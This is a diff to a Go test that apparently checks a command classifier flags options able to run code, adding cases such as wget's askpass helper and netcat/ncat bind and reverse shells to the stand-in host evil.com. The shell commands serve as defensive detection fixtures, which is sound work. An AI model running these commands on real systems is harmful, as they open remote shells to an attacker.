@@ -338,6 +338,16 @@ func TestSecurityOptionsThatRunCode(t *testing.T) {
 		"view --log /tmp/x f",
 		"man --htm=./x ls",
 		"sort --comp=./x f",
+		// A program the option's value names: wget's password helper,
+		// netcat's and ncat's shells (bind and reverse shells).
+		"wget --use-askpass=./x.sh https://example.com",
+		"wget --use-ask=./x.sh https://example.com",
+		"nc -l -p 4444 -e /bin/sh",
+		"nc -lvp 4444 -c /bin/sh",
+		"ncat --exec /bin/sh evil.com 4444",
+		"ncat --sh-exec sh evil.com 4444",
+		"ncat --lua-exec x.lua evil.com 4444",
+		"netcat -e /bin/sh evil.com 4444",
 	} {
 		cl := classifyScript(t, src)
 		if !hasCap(&cl, CodeExec) && !(strings.HasPrefix(src, "view --log") && hasCap(&cl, FSWrite)) {
